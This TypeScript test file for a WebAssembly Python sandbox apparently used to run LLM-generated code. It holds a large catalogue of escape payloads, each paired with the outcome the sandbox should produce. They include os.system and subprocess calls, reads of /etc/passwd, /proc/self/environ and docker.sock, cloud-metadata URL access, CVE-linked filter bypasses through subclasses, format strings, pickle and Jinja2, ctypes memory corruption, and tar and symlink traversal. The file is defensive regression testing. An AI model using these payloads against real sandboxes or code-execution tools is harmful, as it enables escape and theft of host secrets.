/** Python programs that try to reach files, memory, processes, network or code of the host. */
import type { AttackRow, ProgramAttack } from '../attack.ts';
import { type ExpressionRow, expressions, knownFrom, REFUSED } from './rows.ts';

const load = (name: string) => `__import__('${name}')`;
const UP = '../'.repeat(60);

const MISSING = 'FileNotFoundError';

/** Allowed outcomes of a guest that has damaged itself. */
const DAMAGED = [
  'finished',
  'unreachable',
  'out_of_fuel',
  'memory_limit',
  'stack_overflow',
  'denied_call',
  'SystemError',
  'TypeError',
  'ValueError',
  'IndexError',
  'KeyError',
  'MemoryError',
  'AttributeError',
  'UnicodeDecodeError',
  'OverflowError',
  'RecursionError',
];
/** Values spread over the function table of the binary and past its end. */
const POINTERS = [
  ...[0, 1, 2, 7, 100, 1000, 2500, 4000, 5500, 7000, 8500, 10_000, 11_500, 13_000, 20_000],
  2 ** 31,
];
const SMALL = { fuel_budget: 300_000_000 };

/** The status of a command: a shell starts only programs of the sandbox, in another guest. */
const IN_GUEST = /^(0|32512)$/;

/** Processes, network, threads and devices. */
const RESOURCES = expressions([
  ['fork', 'os.fork()'],
  ['exec', "os.execv('/sbin/init', ['init'])"],
  ['kill-init', 'os.kill(1, 9)'],
  ['make-fifo', "os.mkfifo('p')"],
  ['make-device', "os.mknod('n')"],
  ['posix-spawn', "os.posix_spawn('/sbin/init', ['init'], {})"],
  ['shell', "os.system('id')", IN_GUEST, 'CVE-2023-29374 (LangChain LLMMathChain)'],
  ['popen', "os.popen('/sbin/init').read()", "''"],
  ['subprocess', `${load('subprocess')}.run(['/sbin/init'])`, REFUSED, 'CVE-2025-68668 (n8n with Pyodide)'],
  ['socket', `${load('socket')}.socket().connect(('127.0.0.1', 80))`],
  [
    'connect',
    `${load('socket')}.create_connection(('127.0.0.1', 80), 1)`,
    REFUSED,
    'CVE-2026-25904 (mcp-run-python)',
  ],
  ['resolve-name', `${load('socket')}.gethostbyname('localhost')`],
  ['socket-pair', `${load('socket')}.socketpair()`],
  ['thread', `${load('concurrent.futures')}.futures.ThreadPoolExecutor().submit(os.fork).result()`],
  ['process', `${load('multiprocessing')}.Pool(1).apply(os.fork)`],
  ['url-open', `${load('urllib.request')}.request.urlopen('http://169.254.169.254/')`],
  ['url-open-file', `${load('urllib.request')}.request.urlopen('file:///etc/passwd')`],
  ['http-connect', `${load('http.client')}.client.HTTPConnection('127.0.0.1').connect()`],
  ['pseudo-terminal', `${load('pty')}.spawn('sh')`],
  ['interval-timer', `${load('signal')}.setitimer(0, 0.01)`],
  ['memory-map-of-device', `${load('mmap')}.mmap(3, 4096)`],
]);

/** Files of Linux and of the host that other sandboxes have leaked. */
const FILES = expressions([
  ...[
    ['file-environ', '/proc/self/environ'],
    ['file-process-memory', '/proc/self/mem'],
    ['file-root-of-init', '/proc/1/root/etc/passwd'],
    ['file-passwd', '/etc/passwd', 'CVE-2023-51661 (Wasmer)'],
    ['file-physical-memory', '/dev/mem'],
    ['file-terminal', '/dev/tty'],
    ['file-inherited-descriptor', '/dev/fd/7', 'CVE-2024-21626 (runc)'],
    ['file-own-executable', '/proc/self/exe', 'CVE-2019-5736 (runc)'],
    ['file-docker-socket', '/var/run/docker.sock'],
    ['file-double-slash', '//etc/passwd'],
    ['file-windows', 'C:\\\\Windows\\\\win.ini'],
    ['file-windows-device', 'COM\u00b9', 'CVE-2024-51745 (Wasmtime)'],
    ['file-secret', '{{secret_file}}'],
    ['file-secret-upwards', `${UP}..{{secret_file}}`, 'CVE-2025-53110 (MCP filesystem server)'],
    ['file-passwd-upwards', '/app/../../etc/passwd'],
    ['file-proc', '/proc'],
    ['file-sys', '/sys'],
    ['file-hosts', '/etc/hosts'],
    ['file-kernel-log', '/dev/kmsg'],
    ['file-root', '/root'],
    ['file-home', '/home'],
    ['file-working-folder', '{{cwd}}'],
  ].map(
    ([name, path, reference]): ExpressionRow => [name!, `open('${path}', 'rb').read(9)`, MISSING, reference],
  ),
]);

/** What the guest may see of its surroundings. */
const SURROUNDINGS = expressions([
  // The path may be that of a command of the sandbox, whose file has another content.
  ['file-node', "open('/usr/bin/node', 'rb').read(4)", "b'The '"],
  ['file-interpreter', "os.path.exists('{{node}}') and open('{{node}}', 'rb').read(4) != b'The '", 'False'],
  ['list-root', "sorted(os.listdir('/'))", "['app', 'bin', 'data', 'lib', 'tmp', 'usr']"],
  [
    'environment',
    "[n for n in os.environ if 'REDTEAM' in n or n in ('HOSTNAME', 'OLDPWD', 'SSH_CONNECTION')]",
    '[]',
  ],
  ['path-upwards-is-root', `os.path.samefile('${UP}', '/')`, 'True'],
  ['no-hard-link', "hasattr(os, 'link')", 'False'],
  ['device-null', "open('/dev/null').read()", "''"],
  ['device-stdin', "open('/dev/stdin').read()", "''"],
  ['device-zero', "open('/dev/zero', 'rb').read(3)", "b'\\x00\\x00\\x00'"],
]);

/** The bridge between Python and JavaScript that Pyodide has. */
const BRIDGE = expressions([
  ...[
    'js',
    'pyodide_js',
    '_pyodide_core',
    '_pyodide',
    'pyodide',
    'pyodide.ffi',
    'pyodide.code',
    'pyodide.http',
    '_pyodide._base',
    '_pyodide._core_docs',
  ].map(
    (name): ExpressionRow => [
      `bridge-${name.replaceAll(/[_.]/g, '-').replace(/^-/, 'internal-')}`,
      `__import__('${name}')`,
      'ModuleNotFoundError',
      'CVE-2026-25905 (mcp-run-python)',
    ],
  ),
  [
    'bridge-http-patch',
    "__import__('pyodide_http')",
    'ModuleNotFoundError',
    'CVE-2026-25904 (mcp-run-python)',
  ],
  [
    'bridge-installer',
    "__import__('micropip').install('https://example.com/x-1.0-py3-none-any.whl')",
    'ValueError',
    'CVE-2026-24002 (Grist)',
  ],
  [
    'bridge-types',
    "sorted({c.__name__ for c in [*object.__subclasses__(), *map(type, __import__('gc').get_objects())] if c.__name__.startswith(('Js', 'PyProxy')) or 'pyodide' in c.__name__.lower()})",
    '[]',
    'CVE-2026-24002 (Grist)',
  ],
  [
    'bridge-modules',
    "sorted(n for n in set(sys.modules) | set(sys.builtin_module_names) if 'pyodide' in n.lower() or n == 'js')",
    '[]',
    'CVE-2026-25905 (mcp-run-python)',
  ],
  [
    'emscripten-run-script',
    `${load('ctypes')}.CDLL(None).emscripten_run_script(b'1')`,
    REFUSED,
    'CVE-2026-24002 (Grist)',
  ],
]);

/** Ways out of sandboxes that filter the names a Python program may use. Here they reach only the guest itself. */
const FILTER_BYPASSES = expressions([
  [
    'subclasses-to-popen',
    "[c for c in object.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('id')",
    IN_GUEST,
    'CVE-2024-27444 (LangChain experimental)',
  ],
  [
    'generator-frame-globals',
    "(lambda g: g.gi_frame.f_builtins['__import__']('os').system('id'))((x for x in ()))",
    IN_GUEST,
    'CVE-2023-37271 (RestrictedPython)',
  ],
  [
    'format-attribute-access',
    "'{0.__class__.__init__.__globals__}'.format(type('X', (), {'__init__': lambda self: None})()).count('redteam-' 'secret-5d1f')",
    '0',
    'CVE-2023-41039 (RestrictedPython)',
  ],
  [
    'formatter-get-field',
    `${load('string')}.Formatter().get_field('0.__globals__[sys].modules[os]', (lambda: 0,), {})[0].system('id')`,
    IN_GUEST,
    'CVE-2024-47532 (RestrictedPython)',
  ],
  [
    'format-in-asteval',
    "'{0.__class__.__mro__}'.format([]).count('redteam-' 'secret-5d1f')",
    '0',
    'CVE-2025-24359 (asteval)',
  ],
  [
    'exception-object-attribute',
    "(lambda: [e.obj for e in [AttributeError(name='x', obj=__builtins__)]][0])().__import__('os').system('id') if not isinstance(__builtins__, dict) else __builtins__['__import__']('os').system('id')",
    IN_GUEST,
    'CVE-2026-0863 (n8n)',
  ],
  ['module-attribute-chain', `${load('random')}._os.system('id')`, IN_GUEST, 'CVE-2025-5120 (smolagents)'],
  [
    'dunder-through-getattr',
    "getattr(getattr((), '__cla' + 'ss__'), '__ba' + 'se__').__subclasses__()[0].__init__.__class__.__name__",
    /descriptor|method|slot/,
    'CVE-2025-9959 (smolagents)',
  ],
  [
    'eval-in-data-frame-engine',
    "eval(compile('__import__(\"os\").system(\"id\")', 'q', 'eval'))",
    IN_GUEST,
    'CVE-2024-3098 (LlamaIndex)',
  ],
  [
    'exec-generated-plot',
    'exec(\'import subprocess; subprocess.check_output(["/sbin/init"])\')',
    REFUSED,
    'CVE-2024-5565 (Vanna)',
  ],
  [
    'pickle-reduce',
    `${load('pickle')}.loads(b"cos\\nsystem\\n(S'id'\\ntR.")`,
    IN_GUEST,
    'CVE-2024-12366 (PandasAI)',
  ],
  [
    'template-attr-filter',
    `${load('jinja2.sandbox')}.sandbox.SandboxedEnvironment().from_string('{{ self.__init__.__globals__ }}').render()`,
    REFUSED,
    'CVE-2025-27516 (Jinja2)',
  ],
  [
    'template-without-sandbox',
    `${load('jinja2')}.Template("{{ cycler.__init__.__globals__.os.system('id') }}").render()`,
    /^'(0|32512)'$/,
    'CVE-2024-56326 (Jinja2)',
  ],
]);

/** C functions called through ctypes. */
const CTYPES = expressions(
  [
    ['ctypes-string-at', `${load('ctypes')}.string_at(1024, 8)`],
    ['ctypes-python-api', `${load('ctypes')}.pythonapi.Py_GetVersion()`],
    ['ctypes-system', `${load('ctypes')}.CDLL(None).system(b'id')`],
    ['ctypes-libc', `${load('ctypes')}.CDLL('libc.so.6')`],
    ['ctypes-callback', `${load('ctypes')}.CFUNCTYPE(None)(lambda: None)`],
    ['ctypes-find-library', `${load('ctypes.util')}.util.find_library('c')`],
  ],
  /^(OSError|AttributeError|RuntimeError|None)$/,
);

const readOnly = (name: string, act: string, reference?: string): ExpressionRow => [
  name,
  `(lambda path: ${act})(__import__('json').__file__)`,
  'OSError',
  reference,
];

/** Writes to files that all guests share. */
const SHARED_FILES = expressions([
  readOnly('library-open', "open(path, 'w')"),
  readOnly('library-append', "open(path, 'ab')"),
  readOnly('library-remove', 'os.remove(path)'),
  readOnly('library-rename', "os.rename(path, '/app/x')"),
  readOnly('library-chmod', 'os.chmod(path, 0o777)'),
  readOnly('library-utime', 'os.utime(path, (1, 1))'),
  readOnly('library-truncate', 'os.truncate(path, 0)'),
  [
    'library-write-through-map',
    `(lambda m: m.__setitem__(0, 65))(${load('mmap')}.mmap(os.open(${load('json')}.__file__, os.O_RDONLY), 0, prot=3))`,
    REFUSED,
    'CVE-2016-5195 (Linux, Dirty COW)',
  ],
  [
    'library-write-read-only-descriptor',
    `os.write(os.open(${load('json')}.__file__, os.O_RDONLY), b'x')`,
    'OSError',
    'CVE-2022-0847 (Linux, Dirty Pipe)',
  ],
  ['library-make-folder', "os.mkdir('/lib/python3.14/evil')", 'OSError'],
  ['library-link', "os.symlink('/app', '/lib/python3.14/evil')", 'OSError'],
  ['workspace-remove', "os.rmdir('/app')", 'OSError'],
  ['tmp-move', "os.rename('/tmp', '/app/t')", 'OSError'],
  ['workspace-replace', "os.rename('/app', '/lib/app')", 'OSError'],
]);

/** Runs `damage`, in which `word(address)` is the C integer at an address of the guest's memory. */
const corrupt = (name: string, damage: string, reference?: string): ProgramAttack => ({
  name,
  code: `import ctypes\nword = ctypes.c_int.from_address\nprint('there', flush=True)\n${damage}`,
  policy: SMALL,
  outcomes: DAMAGED,
  expect: { stdout: /^there\n/ },
  ...knownFrom(reference),
});

const MEMORY: readonly ProgramAttack[] = [
  corrupt(
    'object-length-two-billion',
    "x = b'abc'; word(id(x) + 8).value = 2_000_000_000; print(len(x)); y = x + x",
  ),
  corrupt(
    'object-negative-length',
    'x = [1]; word(id(x) + 8).value = -5; print(len(x)); x.append(1); x[3] = 2',
  ),
  corrupt('object-invalid-type', 'x = object(); word(id(x) + 4).value = 12345; print(x)'),
  corrupt('object-type-past-memory', 'x = object(); word(id(x) + 4).value = -16; print(x)'),
  corrupt(
    'object-reference-count-zero',
    'x = [[] for _ in range(100)]; word(id(x)).value = 0; del x; y = [[] for _ in range(1000)]',
  ),
  corrupt(
    'object-string-kind',
    "x = 'abc' * 5; word(id(x) + 16).value = -1; print(x + 'd', hash(x), x.upper())",
  ),
  corrupt('object-items-at-address-one', 'x = [1, 2, 3]; word(id(x) + 12).value = 1; print(x)'),
  corrupt(
    'object-cached-integer',
    'word(id(1) + 8).value = 7 << 3; word(id(1) + 12).value = 9; x = [0][1 - 1]; print(x, 1 + 1)',
  ),
  corrupt('object-dictionary-without-keys', 'x = {1: 2}; word(id(x) + 16).value = 0; print(x[1])'),
  corrupt('object-type-of-none', 'word(id(None) + 4).value = id(int); print(None)'),
  ...POINTERS.map((pointer) =>
    corrupt(
      `function-pointer-${pointer}`,
      `method = ctypes.c_uint.from_address(id(len) + 8).value
ctypes.c_uint.from_address(method + 4).value = ${pointer}
len([1])`,
      'CVE-2026-24002 (Grist)',
    ),
  ),
  ...POINTERS.map((pointer) =>
    corrupt(
      `type-slots-${pointer}`,
      `class A: pass
for slot in range(24, 140, 4): ctypes.c_uint.from_address(id(A) + slot).value = ${pointer}
try: repr(A()); hash(A()); A()(); A() + 1
except Exception: pass`,
    ),
  ),
  ...['FIND', 'LEAVE', 'ENTER', 'SWAP', 'END', 'CONTEXT'].map((request) =>
    corrupt(
      `thread-fields-${request.toLowerCase()}`,
      `import fcntl, _sandbox_threads
for value in (0, 1, 4096, 2**31, 2**32 - 1):
    try: fcntl.ioctl(0, _sandbox_threads.${request}, bytearray(value.to_bytes(4, 'little') * 12), True)
    except OSError: pass`,
    ),
  ),
  {
    name: 'denied-import-by-table-index',
    // Function 3 of the table of the binary starts the bridge. No name refers to it.
    code: `import ctypes
method = ctypes.c_uint.from_address(id(len) + 8).value
ctypes.c_uint.from_address(method + 4).value = 3
len([1])`,
    outcomes: ['denied_call'],
    reference: 'CVE-2026-25905 (mcp-run-python)',
  },
  ...['1', '0', '5000', '0xffffffff', '123456789'].map(
    (address): ProgramAttack => ({
      name: `ctypes-call-${address}`,
      code: `import ctypes\nprint('there', flush=True)\nctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_longlong)(${address})(7)`,
      expect: { stdout: 'there\n', success: false },
    }),
  ),
  ...(
    [
      ['past-end', 'ctypes.c_uint.from_address(31457280 - 3).value'],
      ['at-end', 'ctypes.c_ubyte.from_address(31457280).value'],
      ['highest', 'ctypes.c_ubyte.from_address(0xffffffff).value'],
      ['over-highest', 'ctypes.c_ulonglong.from_address(0xfffffffe).value', 'CVE-2023-26489 (Wasmtime)'],
    ] as const
  ).map(
    ([name, read, reference]): ProgramAttack => ({
      name: `memory-read-${name}`,
      code: `import ctypes\nprint('there', flush=True)\n${read}`,
      outcomes: ['unreachable'],
      expect: { stdout: 'there\n', metadata: { trap_message: /memory was accessed out of bounds/ } },
      ...knownFrom(reference),
    }),
  ),
  {
    name: 'memory-search-for-secret',
    code: `import ctypes
seen, found = 0, []
for at in range(0, 31457280, 65536):
    page = bytes((ctypes.c_char * 65536).from_address(at))
    seen += len(page)
    # Compared in two halves, so that the program text does not contain the secret.
    half = page.find(b'redteam-')
    if half >= 0 and page[half + 8:half + 19] == b'secret-5d1f': found.append(at)
[seen, found]`,
    expect: { metadata: { result: [31_457_280, []] } },
  },
  {
    name: 'memory-length-of-gigabytes',
    code: 'import ctypes\nlen(bytes((ctypes.c_char * 2_000_000_000).from_address(1024)))',
    outcomes: ['MemoryError'],
  },
  ...(
    [
      ['zeros', 'bytes(65536)', 'range(0, 31457280, 65536)'],
      ['ones', "b'\\xff' * 65536", 'range(0, 31457280, 65536)'],
      ['downwards', "b'\\xff' * 65536", 'range(31457280 - 65536, 0, -65536)'],
      ['stack', "b'A' * 65536", 'range(0, 6_000_000, 65536)'],
    ] as const
  ).map(
    ([name, bytes, range]): ProgramAttack => ({
      name: `memory-overwrite-${name}`,
      code: `import ctypes
print('there', flush=True)
block = (${bytes})
for at in ${range}:
    (ctypes.c_char * 65536).from_address(at).raw = block`,
      outcomes: ['unreachable', 'memory_limit'],
      expect: { stdout: 'there\n' },
    }),
  ),
  ...[1, 2, 3, 4, 5, 6, 7, 8].map(
    (seed): ProgramAttack => ({
      name: `memory-random-writes-${seed}`,
      code: `import ctypes, random
random.seed(${seed})
print('there', flush=True)
while True:
    ctypes.c_ubyte.from_address(random.randrange(1024, 31457280)).value = random.randrange(256)`,
      policy: SMALL,
      expect: { stdout: /^there\n/, success: false },
    }),
  ),
];

const BYTECODE: readonly ProgramAttack[] = [
  ...(
    [
      ['unknown-instruction', 'bytes([255, 255] * 50)'],
      ['empty-stack', 'bytes([31, 0] * 50)'],
      ['missing-locals', 'bytes([84, 255] * 50)'],
      ['jump-out-of-range', 'bytes([68, 255, 75, 255, 77, 255] * 20)'],
      ['no-end', 'bytes([0x1b, 0] * 50)'],
    ] as const
  ).map(
    ([name, bytecode]): ProgramAttack => ({
      name: `bytecode-${name}`,
      code: `def f(a, b): return a + b
print('there', flush=True)
f.__code__ = f.__code__.replace(co_code=${bytecode}, co_stacksize=1)
f(1, 2)`,
      policy: SMALL,
      outcomes: [...DAMAGED, 'RuntimeError', 'UnboundLocalError', 'NameError'],
      expect: { stdout: /^there\n/ },
    }),
  ),
  ...[1, 2, 3, 4, 5, 6].map(
    (seed): ProgramAttack => ({
      name: `bytecode-random-${seed}`,
      code: `import random, types
random.seed(${seed})
def f(a, b): return a + b
print('there', flush=True)
while True:
    code = f.__code__.replace(co_code=bytes(random.randrange(256) for _ in range(40)))
    try: types.FunctionType(code, {})(1, 2)
    except Exception: pass`,
      policy: SMALL,
      outcomes: DAMAGED,
      expect: { stdout: /^there\n/ },
    }),
  ),
  {
    name: 'marshal-random',
    code: `import marshal, random
random.seed(5)
kinds = set()
for i in range(5000):
    try: marshal.loads(bytes(random.randrange(256) for _ in range(30)))
    except Exception as error: kinds.add(type(error).__name__)
{'EOFError', 'ValueError'} <= kinds`,
    expect: { metadata: { result: true } },
  },
  {
    name: 'marshal-nested-without-end',
    code: "import marshal\nmarshal.loads(b'(' + b'\\x01\\0\\0\\0(' * 100000)",
    outcomes: ['ValueError'],
  },
  {
    name: 'marshal-damaged-code',
    code: `import marshal, random, types
random.seed(11)
good = marshal.dumps(compile('def f(x):\\n    return [y * 2 for y in range(x)]\\nf(3)', 'f', 'exec'))
print('there', flush=True)
while True:
    bad = bytearray(good)
    for _ in range(3): bad[random.randrange(len(bad))] = random.randrange(256)
    try: exec(marshal.loads(bytes(bad)), {})
    except Exception: pass`,
    policy: SMALL,
    outcomes: DAMAGED,
    expect: { stdout: /^there\n/ },
  },
];

const PROGRAMS: readonly ProgramAttack[] = [
  {
    name: 'object-graph',
    code: `import gc, os, sys
classes, queue = set(), [object]
while queue:
    kind = queue.pop()
    if kind in classes: continue
    classes.add(kind); queue.extend(type.__subclasses__(kind))
frame, files = sys._getframe(), set()
while frame: files.add(frame.f_code.co_filename); frame = frame.f_back
[len(classes) > 300, sorted(files)]`,
    expect: { metadata: { result: [true, ['/app/main.py', '/lib/python3.14/_sandbox.py']] } },
    reference: 'CVE-2023-36258 (LangChain PALChain)',
  },
  {
    name: 'except-star-type-confusion',
    code: `class Evil(Exception):
    def __subclasscheck__(cls, sub): return True
    def split(self, kind): return (__builtins__, None)
class Group(ExceptionGroup):
    def split(self, kind): return self, None
try:
    raise Group('g', [ValueError(1)])
except* ValueError as group:
    __import__('os').system('id')`,
    outcomes: ['finished', 'TypeError'],
    reference: 'CVE-2025-22153 (RestrictedPython)',
  },
  {
    name: 'links-out-of-the-tree',
    code: `import os
seen = []
def attempt(act):
    try: seen.append(act())
    except OSError as error: seen.append(os.strerror(error.errno))
os.symlink('{{secret_file}}', 'a'); os.symlink('../../../../..{{secret_file}}', 'b'); os.symlink('/', 'root')
os.symlink('loop', 'loop'); os.symlink('pong', 'ping'); os.symlink('ping', 'pong')
for path in ('a', 'b', 'root/etc/passwd', 'root/root/root/proc', 'loop', 'ping', 'loop/x'): attempt(lambda: open(path).read())
attempt(lambda: open('root/lib/python3.14/os.py', 'w'))
attempt(lambda: os.remove('root/lib/python3.14/os.py'))
for i in range(60): os.symlink(f'chain{i - 1}' if i else '/app', f'chain{i}')
attempt(lambda: os.stat('chain59'))
attempt(lambda: len(os.listdir('chain30')) > 60)
attempt(lambda: os.symlink('x' * 5000, 'long'))
attempt(lambda: os.symlink('', 'empty'))
seen`,
    expect: {
      metadata: {
        result: [
          ...Array(4).fill('No such file or directory'),
          ...Array(3).fill('Symbolic link loop'),
          ...Array(2).fill('Read-only file system'),
          'Symbolic link loop',
          true,
          'Filename too long',
          'No such file or directory',
        ],
      },
    },
    reference: 'CVE-2024-38358 (Wasmer)',
  },
  {
    name: 'archive-with-parent-paths',
    code: `import io, os, tarfile
data = io.BytesIO()
with tarfile.open(fileobj=data, mode='w') as tar:
    for name in ('../../evil', '/evil', '/lib/python3.14/evil.py'):
        info = tarfile.TarInfo(name); info.size = 1; tar.addfile(info, io.BytesIO(b'x'))
    link = tarfile.TarInfo('l'); link.type = tarfile.SYMTYPE; link.linkname = '{{secret_file}}'; tar.addfile(link)
data.seek(0)
seen = []
with tarfile.open(fileobj=data) as tar:
    for member in tar.getmembers():
        try: tar.extract(member, filter='fully_trusted'); seen.append('done')
        except OSError as error: seen.append('refused')
try: seen.append(open('l').read())
except OSError: seen.append('missing')
[seen, sorted(os.listdir('/'))]`,
    expect: {
      metadata: {
        result: [
          ['refused', 'refused', 'refused', 'done', 'missing'],
          ['app', 'bin', 'data', 'lib', 'tmp', 'usr'],
        ],
      },
    },
    reference: 'CVE-2025-4517 (CPython tarfile)',
  },
  {
    name: 'descriptor-upwards',
    code: `import os
seen = []
fd = os.open('/app', os.O_RDONLY)
for path in ('../../etc/passwd', '../..{{secret_file}}', '{{secret_file}}'):
    try: os.open(path, os.O_RDONLY, dir_fd=fd); seen.append('open')
    except OSError as error: seen.append(type(error).__name__)
os.chdir('/'); os.chdir('..'); os.chdir('../..')
[seen, os.getcwd()]`,
    expect: { metadata: { result: [Array(3).fill('FileNotFoundError'), '/'] } },
    reference: 'CVE-2024-21626 (runc)',
  },
  {
    name: 'descriptors-of-the-host',
    code: `import os
seen, fds = [], []
try:
    while True: fds.append(os.open('/dev/null', os.O_RDONLY))
except OSError as error: seen.append([len(fds), os.strerror(error.errno)])
os.close(fds[10])
seen.append(os.open('/dev/null', os.O_RDONLY) == fds[10])
os.closerange(3, 300)
reached = []
for fd in range(3, 2000):
    for act in (lambda: os.write(fd, b'x'), lambda: os.read(fd, 1), lambda: os.fstat(fd)):
        try: act(); reached.append(fd)
        except OSError: pass
seen.append(reached)
r, w = os.pipe()
written = 0
try:
    while True: written += os.write(w, b'x' * 10000)
except OSError: seen.append(written)
for old, new in ((1, 100000), (1, 2**31 - 1), (999, 1)):
    try: os.dup2(old, new); seen.append('done')
    except OSError: seen.append('refused')
seen`,
    expect: {
      metadata: {
        result: [[253, 'No file descriptors available'], true, [], 65_536, 'refused', 'refused', 'refused'],
      },
    },
  },
  {
    name: 'file-names-that-are-not-text',
    code: `import os
seen = []
for name in ('a\\0b', b'\\xff\\xfe', '\\udcff', 'x' * 256, '\\u00e9' * 128, 'a' * 5000, '/'.join(['d'] * 3000), '', '.', '..'):
    for act in (lambda: open(name, 'w'), lambda: os.mkdir(name), lambda: os.symlink('x', name), lambda: os.rename('/app', name)):
        try: act(); seen.append(ascii(name))
        except (OSError, ValueError): pass
[seen, os.listdir('.')]`,
    expect: { metadata: { result: [[], []] } },
  },
  {
    name: 'lengths-of-gigabytes',
    code: `import os
seen = []
open('f', 'w').write('abc')
fd = os.open('f', os.O_RDWR)
def attempt(act):
    try: seen.append(act())
    except (OSError, MemoryError, OverflowError, ValueError) as error: seen.append(type(error).__name__)
attempt(lambda: len(os.read(fd, 2**31 - 1)))
attempt(lambda: os.pread(fd, 10, 2**62))
attempt(lambda: os.pwrite(fd, b'x', 2**62))
attempt(lambda: os.lseek(fd, 2**62, 0))
attempt(lambda: os.ftruncate(fd, 2**62))
attempt(lambda: os.urandom(2**31 - 1))
attempt(lambda: os.readv(fd, [bytearray(10)] * 5000))
attempt(lambda: os.writev(fd, [b'x' * 10] * 1000))
seen`,
    expect: {
      metadata: {
        result: ['OverflowError', ...Array(4).fill('OSError'), 'OverflowError', 'OSError', 10_000],
      },
    },
  },
  {
    name: 'native-library',
    code: `import ctypes, importlib.machinery, importlib.util
open('evil.so', 'wb').write(b'\\0asm\\1\\0\\0\\0' + bytes(100))
seen = []
for load in (lambda: ctypes.CDLL('/app/evil.so'),
             lambda: importlib.machinery.ExtensionFileLoader('evil', '/app/evil.so').create_module(
                 importlib.util.spec_from_file_location('evil', '/app/evil.so'))):
    try: load(); seen.append('loaded')
    except (OSError, ImportError) as error: seen.append(type(error).__name__)
seen`,
    expect: { metadata: { result: ['OSError', 'ImportError'] } },
  },
  {
    name: 'forged-library-stub',
    code: `import ctypes, importlib.machinery, importlib.util, os
stub = 'llm-wasm-sandbox side module sha256:%s\\n'
seen = set()
for i, text in enumerate([stub % ('a' * 64), stub % ('0' * 64), stub % '../../etc/passwd', stub.strip() % '', stub * 1000 % (('a' * 64,) * 1000)]):
    for folder in ('/app', '/tmp'):
        path = f'{folder}/forged{i}.so'
        open(path, 'w').write(text)
        os.symlink(path, path + '.link.so')
        for name in (path, path + '.link.so'):
            for load in (lambda: ctypes.CDLL(name),
                         lambda: importlib.machinery.ExtensionFileLoader('forged', name).create_module(
                             importlib.util.spec_from_file_location('forged', name))):
                try: load(); seen.add('loaded')
                except (OSError, ImportError) as error: seen.add(type(error).__name__)
sorted(seen)`,
    expect: { metadata: { result: ['ImportError', 'OSError'] } },
  },
  {
    name: 'symbols-of-the-main-program',
    code: `import ctypes, _ctypes
seen = []
for look in (lambda: ctypes.CDLL(None).system, lambda: ctypes.pythonapi.PyRun_SimpleString(b'1'),
             lambda: _ctypes.dlsym(0, 'emscripten_run_script'), lambda: _ctypes.dlsym(_ctypes.dlopen(None, 0), 'system')):
    try: look(); seen.append('found')
    except (OSError, AttributeError, SystemError) as error: seen.append('refused')
seen`,
    expect: { metadata: { result: Array(4).fill('refused') } },
  },
  {
    name: 'bridge-module-of-its-own',
    code: `import sys, types
js = types.ModuleType('js'); js.process = 'fake'; sys.modules['js'] = js
import js
js.process`,
    expect: { metadata: { result: 'fake' } },
  },
  ...(
    [
      [
        'finder-for-every-module',
        "import sys\nclass F:\n    def find_spec(self, *a): raise SystemError('mine')\nsys.meta_path.insert(0, F())\nimport nothing_there",
      ],
      [
        'replaced-import',
        "import builtins\nbuiltins.__import__ = lambda *a, **k: (_ for _ in ()).throw(SystemError('mine'))\nimport os",
      ],
      [
        'emptied-module-tables',
        "import sys\nsys.modules.clear(); sys.meta_path.clear(); sys.path_hooks.clear()\nraise SystemError('mine')",
      ],
      [
        'replaced-loader',
        "import importlib._bootstrap_external as b\ndef bad(*a): raise SystemError('mine')\nb.SourceFileLoader.exec_module = bad\nimport colorsys",
      ],
    ] as const
  ).map(
    ([name, code]): ProgramAttack => ({
      name: `import-hook-${name}`,
      code,
      expect: { success: false, metadata: { trapped: false } },
    }),
  ),
  ...(
    [
      ['exit', 'os._exit(3)', 3, 'finished'],
      ['abort', 'os.abort()', 134, 'unreachable'],
      ['kill-itself', 'os.kill(os.getpid(), 9)', 137, 'finished'],
      ['signal-11', 'import signal; signal.raise_signal(11)', 134, 'unreachable'],
      ['segmentation-fault', 'import faulthandler; faulthandler._sigsegv()', 134, 'unreachable'],
    ] as const
  ).map(
    ([name, call, exit_code, end]): ProgramAttack => ({
      name: `process-${name}`,
      code: `import os\n${call}`,
      outcomes: [end],
      expect: { exit_code },
    }),
  ),
];

export const ESCAPES_PYTHON: readonly AttackRow[] = [
  ...RESOURCES,
  ...FILES,
  ...SURROUNDINGS,
  ...BRIDGE,
  ...FILTER_BYPASSES,
  ...CTYPES,
  ...SHARED_FILES,
  ...MEMORY,
  ...BYTECODE,
  ...PROGRAMS,
];
